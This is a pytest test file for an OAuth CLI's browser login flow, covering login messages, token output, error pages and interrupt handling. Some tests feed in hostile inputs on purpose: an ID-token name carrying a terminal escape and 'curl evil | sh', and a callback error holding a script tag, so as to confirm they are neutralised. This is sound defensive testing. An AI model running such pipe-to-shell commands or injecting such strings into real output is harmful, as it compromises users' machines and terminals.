"""`oauthreg login` by the browser: a thread plays the browser, the server logs alice in."""

from __future__ import annotations

import os
import re
import signal
import socket
import subprocess
import sys

import pytest

from oauthreg._cli import login_ways
from oauthreg.testing import DELETE

SECRET = "s3cret-of-the-cli"


def test_logs_in_and_says_who_and_what(oauthreg, browser, login_settings):
    login_settings(scope="openid read")
    done = oauthreg("login", "web")
    assert (done.returncode, done.stdout) == (0, "")
    lines = done.stderr.splitlines()
    assert lines[-5] == "Logged in as alice."
    assert lines[-4].split() == ["scopes", "openid", "read"]
    assert lines[-3].split()[:3] == ["lives", "300", "s,"]
    assert lines[-2].split() == ["refresh", "token", "yes"]
    assert lines[-1].startswith("It ends with this command: ")


def test_the_name_in_an_id_token_is_one_line(oauthreg, browser, login_server, login_settings):
    login_settings(scope="openid")
    login_server.id_token_overrides = {"sub": "alice.\nRun this:\x1b[2J curl evil | sh"}
    done = oauthreg("login", "web")
    assert "Logged in as alice. Run this: [2J curl evil | sh.\n" in done.stderr


def test_the_browser_is_told_so_and_shown_nothing_else(oauthreg, browser, login_settings):
    login_settings()
    assert oauthreg("login", "web").returncode == 0
    page = browser.page
    assert page.status_code == 200
    assert "<h1>You are logged in</h1>\n<p>You may close this window.</p>" in page.text
    assert page.headers["Cache-Control"] == "no-store"
    assert page.headers["Content-Security-Policy"] == "default-src 'none'"
    secrets = [token.value for token in browser.server.tokens]
    assert not any(value in page.text for value in [*secrets, browser.asked["state"]])


def test_without_openid_the_name_is_the_user_of_this_machine(oauthreg, browser, login_settings):
    login_settings()
    done = oauthreg("login", "web", LOGNAME="bob")
    assert "Logged in as bob." in done.stderr


def test_a_machine_without_user_names_will_do(oauthreg, browser, login_settings, monkeypatch):
    def nobody():
        raise KeyError("uid not found")

    monkeypatch.setattr("getpass.getuser", nobody)
    login_settings()
    assert "Logged in as me." in oauthreg("login", "web").stderr


def test_a_principal_may_be_named(oauthreg, browser, login_settings):
    login_settings(scope="openid")
    assert "Logged in as carol." in oauthreg("login", "web", "--principal", "carol").stderr


def test_the_token_stands_alone_on_stdout(oauthreg, browser, login_settings):
    login_settings()
    done = oauthreg("login", "web", "--token")
    access, refresh = browser.server.tokens
    assert done.stdout == f"{access.value}\n"
    assert access.value not in done.stderr
    assert refresh.value not in done.stderr


def test_the_refresh_token_serves_a_program(oauthreg, browser, login_settings):
    login_settings()
    done = oauthreg("login", "web", "--show-refresh-token")
    assert "Keep the refresh token secret" in done.stderr
    login_settings(authorization_grant_type="refresh_token", refresh_token=done.stdout.strip())
    assert oauthreg("token", "web").returncode == 0


def test_no_refresh_token_is_exit_1(oauthreg, browser, login_settings):
    login_settings()
    browser.server.extra_fields = {"refresh_token": DELETE}
    done = oauthreg("login", "web", "--show-refresh-token")
    assert (done.returncode, done.stdout) == (1, "")
    assert "offline_access" in done.stderr
    assert "refresh token  none" in done.stderr


def test_a_refusal_is_told_on_both_sides(oauthreg, browser, login_settings):
    login_settings()
    browser.server.login = None
    done = oauthreg("login", "web")
    assert (done.returncode, done.stdout) == (1, "")
    assert "access_denied" in done.stderr
    assert "<h1>The login failed</h1>" in browser.page.text
    assert "access_denied" in browser.page.text


def test_what_a_callback_says_cannot_write_into_page_or_terminal(oauthreg, browser, login_settings):
    login_settings()
    browser.instead = {
        "iss": browser.server.issuer,
        "error": "<script>1</script>",
        "error_description": "\x1b[2J<b>",
    }
    done = oauthreg("login", "web")
    assert done.returncode == 1
    assert "&lt;script&gt;1&lt;/script&gt;" in browser.page.text
    assert "<script" not in browser.page.text
    assert "\x1b" not in done.stderr


def test_only_the_answer_to_this_login_ends_it(oauthreg, browser, login_settings):
    login_settings()
    browser.before = ["/favicon.ico", "/callback?code=x", "/callback?code=x&state=another"]
    assert oauthreg("login", "web").returncode == 0
    assert browser.page.status_code == 200
    assert [page.status_code for page in browser.pages] == [404, 400, 400, 200]
    assert "not the answer to the login" in browser.pages[1].text


def test_nobody_comes(oauthreg, login_server, login_settings, monkeypatch):
    login_settings(redirect_uri="https://app.example.com/callback")
    monkeypatch.setattr(login_ways, "open_browser", lambda *_: False)
    done = oauthreg("login", "web", "--timeout", "0.1")
    assert (done.returncode, done.stdout) == (1, "")
    assert "No browser could be opened here" in done.stderr
    assert "no browser came back from a login within 0.1 s" in done.stderr
    assert re.search(r"refuse the address http://127\.0\.0\.1:\d+/callback\?", done.stderr)


def test_no_browser_is_opened_where_that_is_said(oauthreg, browser, login_settings):
    login_settings()
    done = oauthreg("login", "web", "--no-browser", "--timeout", "0.1")
    assert browser.asked is None
    assert re.search(r"\n    http://127\.0\.0\.1:\d+/[\w-]{22}\n", done.stderr)


def test_a_server_that_does_not_know_the_address_may_say_so_at_once(
    oauthreg, browser, login_settings
):
    login_settings()
    browser.server.metadata_overrides = {}  # it takes pushed requests (RFC 9126)
    done = oauthreg("login", "web")
    assert done.returncode == 1
    assert re.search(r"http://127\.0\.0\.1:\d+/callback is not supported by client", done.stderr)


def test_a_port_that_is_taken(oauthreg, browser, login_settings):
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        login_settings(redirect_uri=f"http://127.0.0.1:{port}/callback")
        done = oauthreg("login", "web")
    assert done.returncode == 1
    assert f"cannot listen at http://127.0.0.1:{port}/callback: Address already" in done.stderr


def test_a_terminal_sees_something_move(oauthreg, browser, login_settings):
    login_settings()
    done = oauthreg("login", "web", FORCE_COLOR="1")
    assert done.returncode == 0
    assert "Waiting for the login, until" in done.stderr
    assert "\x1b[" in done.stderr


def test_a_grant_without_login_is_exit_2_and_says_what_to_set(oauthreg, settings):
    done = oauthreg("login", "my-client")
    assert (done.returncode, done.stdout) == (2, "")
    assert "registration.my-client.authorization-grant-type: is client_credentials" in done.stderr
    assert 'Set authorization-grant-type = "authorization_code", or "device_code".' in done.stderr


def test_implicit_comes_back_where_no_listener_sees_it(oauthreg, login_settings):
    login_settings(authorization_grant_type="implicit", allow_insecure_grants=True)
    assert "is implicit, by which" in oauthreg("login", "web").stderr


def test_an_unknown_registration_is_exit_2_with_advice(oauthreg, login_settings):
    login_settings()
    done = oauthreg("login", "wep")
    assert done.returncode == 2
    assert "Did you mean 'web'?" in done.stderr


def test_ctrl_c_is_exit_130(oauthreg, login_settings, monkeypatch):
    def interrupted(*_):
        raise KeyboardInterrupt

    login_settings()
    monkeypatch.setattr(login_ways, "open_browser", interrupted)
    done = oauthreg("login", "web")
    assert (done.returncode, done.stdout) == (130, "")


@pytest.fixture
def interruptible():
    """A job in the background ignores SIGINT and so would its children: they inherit that."""
    inherited = signal.signal(signal.SIGINT, signal.default_int_handler)
    yield
    signal.signal(signal.SIGINT, inherited)


@pytest.mark.usefixtures("interruptible")
def test_ctrl_c_ends_the_program_cleanly(login_settings, tmp_path, environment):
    login_settings()
    with subprocess.Popen(
        [sys.executable, "-m", "oauthreg._cli", "login", "web", "--no-browser"],
        cwd=tmp_path,
        env=environment,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    ) as process:
        for line in process.stderr:
            if line.startswith("Waiting"):
                break
        os.kill(process.pid, signal.SIGINT)
        out, err = process.communicate(timeout=10)
    assert (process.returncode, out, err) == (130, "", "Interrupted.\n")
